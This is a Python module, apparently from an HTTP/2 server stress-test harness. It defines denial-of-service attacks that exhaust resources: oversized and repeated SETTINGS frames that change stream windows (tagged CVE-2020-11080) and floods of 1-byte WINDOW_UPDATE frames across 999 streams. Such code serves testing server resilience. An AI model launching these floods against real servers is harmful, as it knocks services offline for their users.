"""Changes of windows beside as many open streams as are allowed: the work must not grow with the streams."""

from itertools import cycle, islice, repeat

from bench.hostile import frames
from bench.hostile.attack import Attack, Ports, RunAttack, filled, flood
from bench.hostile.peer import Peer, opened

STREAMS = 999
ENTRIES = 87_381  # of 6 bytes: one frame of 512 KiB
UPDATE_BYTES = 4_000_000
ANSWER_LIMIT = 30.0  # seconds


def entries(count: int) -> bytes:
    """A SETTINGS frame of so many initial windows, each another."""
    sizes = islice(cycle((65535, 65536)), count)
    return frames.settings((frames.INITIAL_WINDOW_SIZE, size) for size in sizes)


def one_large_settings(target: Ports, seconds: float) -> str:
    """One frame of 512 KiB, or what the server allows in one."""
    peer, _ = opened(target.port, STREAMS, frames.PUSH_STREAM)
    count = min(ENTRIES, peer.max_frame // 6)
    return once(peer, entries(count), f"{count:,} entries")


def repeated_settings(target: Ports, seconds: float) -> str:
    """Frames of 16 KiB, as fast as the rate of a flood."""
    peer, _ = opened(target.port, STREAMS, frames.PUSH_STREAM)
    return flood(peer, repeat(entries(16384 // 6)), seconds)


def connection_updates(target: Ports, seconds: float) -> str:
    """4 MB of updates of the connection's window by 1."""
    peer, _ = opened(target.port, STREAMS, frames.PUSH_STREAM)
    return once(peer, frames.window_update(0, 1) * (UPDATE_BYTES // 13), "4 MB")


def stream_updates(target: Ports, seconds: float) -> str:
    """4 MB of updates by 1, of one stream after another."""
    peer, streams = opened(target.port, STREAMS, frames.PUSH_STREAM)
    updates = [frames.window_update(stream, 1) for stream in streams]
    return once(peer, b"".join(islice(cycle(updates), UPDATE_BYTES // 13)), "4 MB")


def once(peer: Peer, data: bytes, name: str) -> str:
    """Write all at once, and wait for the answer to a PING behind it."""
    answered = peer.write(data, ANSWER_LIMIT) and peer.ping(ANSWER_LIMIT)
    peer.close()
    return f"{peer.outcome()}; {name} {'served' if answered else 'not served'}"


def update_flood(increment: int) -> RunAttack:
    """Updates of the connection's window at the rate of a flood, beside no stream."""
    return lambda target, seconds: flood(Peer(target.port), repeat(filled(frames.window_update(0, increment))), seconds)


ATTACKS = [
    Attack("SETTINGS of 512 KB, 999 streams", "windows", one_large_settings, "CVE-2020-11080"),
    Attack("SETTINGS of 16 KB repeated, 999 streams", "windows", repeated_settings, "CVE-2020-11080"),
    Attack("4 MB of +1 connection windows, 999 streams", "windows", connection_updates),
    Attack("4 MB of +1 stream windows, 999 streams", "windows", stream_updates),
    Attack("+1 connection windows", "flood", update_flood(1)),
]
